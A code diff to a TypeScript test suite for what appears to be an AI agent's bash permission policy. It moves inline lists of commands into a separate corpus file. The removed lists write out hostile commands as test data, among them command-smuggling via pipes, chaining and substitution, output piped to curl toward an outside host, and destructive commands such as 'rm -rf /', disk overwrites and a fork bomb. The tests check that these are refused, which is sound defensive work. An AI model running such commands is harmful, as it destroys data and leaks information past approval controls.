@@ -13,6 +13,7 @@ import { analyzeCommand } from '../../src/bash/policy/analyze-command.ts'
 import { argumentsReaders, bundledExtensions } from '../../src/index.ts'
 import { thoroughly } from '../../../../scripts/thoroughly.ts'
 import { BYPASS_VECTORS } from './corpus/bypass-vectors.ts'
+import { BESIDE, DESTRUCTIVE, RUN_TOUCH } from './corpus/judged-commands.ts'
 
 const isWalled = has('bubblewrap') || (await lookWall()).stands
 
@@ -83,15 +84,6 @@ describe('an allow list of git status, ls, find, echo and cat', () => {
 })
 
 describe('a pattern covers only the command it matches', () => {
-  /** Each combines `npm run x`, which is allowed, with something that is not. */
-  const BESIDE = [
-    "npm run x | node -e 'evil()'", 'npm run x | bash', 'npm run x | sh -s', 'npm run x | tee pwned', 'npm run x | xargs touch', 'npm run x | curl -d @- http://example.com',
-    'npm run x |& tee pwned', '! npm run x | tee pwned', 'npm run x | npm run y | tee pwned', 'npm run x | tee pwned | npm run y', 'npm run x 2>&1 | dd of=pwned',
-    'npm run x && touch pwned', 'npm run x || touch pwned', 'npm run x; touch pwned', 'npm run x\ntouch pwned', '! npm run x; touch pwned', 'npm run x & touch pwned', 'npm run x &', 'touch pwned && npm run x', 'touch pwned | npm run x',
-    'npm run x <<EOF | tee pwned\ntext\nEOF', 'npm run x <<EOF && touch pwned\ntext\nEOF', 'npm run x <<EOF\n$(touch pwned)\nEOF', 'npm run x <<< "$(touch pwned)"',
-    'npm run $(touch pwned)', 'npm run "`touch pwned`"', 'npm run <(touch pwned)', 'npm run x > pwned', 'npm run x 2>> pwned', 'npm run x &> pwned', 'npm run x > >(tee pwned)',
-    '(npm run x; touch pwned)', '(npm run x) | tee pwned', '{ npm run x; touch pwned; }', 'for i in 1; do npm run x; touch pwned; done', 'if npm run x; then touch pwned; fi', 'time npm run x | tee pwned', 'cd sub && npm run x', 'A=1 npm run x',
-  ]
   const expectRefused = async (bash: Awaited<ReturnType<typeof open>>, code = 'ApprovalDenied', commands = BESIDE): Promise<void> => {
     for (const command of commands) expect([command, codeOf(await bash(command))]).toEqual([command, code])
     expect(readdirSync(workspace)).toEqual(['sub'])
@@ -201,10 +193,6 @@ describe('rules', () => {
   const rule = (action: Rule['action'], pattern: string, permission = 'bash'): Rule => ({ permission, pattern, action })
   const bashUnder = (...rules: readonly Rule[]) => open({}, { mode: 'yolo', rules })
 
-  const RUN_TOUCH = [
-    'touch x', 'timeout 5 touch x', 'env A=1 touch x', '/usr/bin/touch x', 'ls; touch x', 'ls | xargs touch', 'find . -exec touch {} +', "sh -c 'touch x'", "bash -c 'ls && touch x'", 'echo $(touch x)', 'for i in 1; do touch x; done',
-    'git -c alias.x="!touch x" x', 'sudo touch x', 'sudo -n -u root touch x', 'nice nohup touch x', 'git bisect run touch x', 'ssh host touch x', 'watch touch x', 'npx touch x', "timeout 5 sh -c 'exec env touch x'",
-  ]
   it.each([
     [[rule('deny', 'touch*'), rule('allow', '*')]], [[rule('deny', 'touch*', 'shell.run')]],
   ])('a deny rule for `touch` denies every command that would run it: %o', async (rules) => {
@@ -231,8 +219,7 @@ describe('rules', () => {
   })
 
   it('destructive commands are denied in every mode', async () => {
-    const destructive = ['rm -rf /', 'rm -rf /*', 'rm -fr ~', 'sudo rm -rf /', "sh -c 'rm -rf /'", 'rm -r --no-preserve-root /', 'mkfs.ext4 /dev/sda1', 'dd if=/dev/zero of=/dev/sda', ':(){ :|:& };:', 'echo x > /dev/sda', 'chmod -R 777 /', 'cd .. && ls', 'shutdown now', 'find . -exec rm -rf / +']
     const bash = await bashUnder(rule('allow', '*'))
-    for (const command of destructive) expect([command, codeOf(await bash(command))]).toEqual([command, 'WatchdogDenied'])
+    for (const command of DESTRUCTIVE) expect([command, codeOf(await bash(command))]).toEqual([command, 'WatchdogDenied'])
   })
 })
